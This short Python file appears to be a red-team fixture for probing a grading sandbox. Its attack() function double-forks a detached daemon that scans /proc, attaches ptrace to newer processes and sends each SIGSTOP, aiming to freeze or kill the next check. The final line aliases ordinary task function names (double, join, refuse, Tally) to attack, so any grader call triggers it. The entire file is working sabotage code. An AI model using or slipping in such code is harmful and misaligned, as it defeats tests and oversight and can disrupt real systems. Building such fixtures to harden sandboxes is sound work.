# aim: leave a daemon that waits for the next check's process and stops, traces or kills it
# needs: sandbox
import ctypes
import os
import signal
import time


def attack(*args):
    mine = os.getpid()
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            end = time.monotonic() + 60  # bounded, should nobody stop it
            while time.monotonic() < end and os.readlink("/proc/self/ns/pid") != "@PIDNS@":
                for pid in (int(x) for x in os.listdir("/proc") if x.isdigit()):
                    if pid > mine + 2 and pid != os.getpid():
                        ctypes.CDLL(None).ptrace(0x4206, pid, None, None)
                        try:
                            os.kill(pid, signal.SIGSTOP)
                        except OSError:
                            pass
                time.sleep(0.001)
        os._exit(0)
    os.wait()
    return 0


double = join = apply_all = refuse = Tally = attack
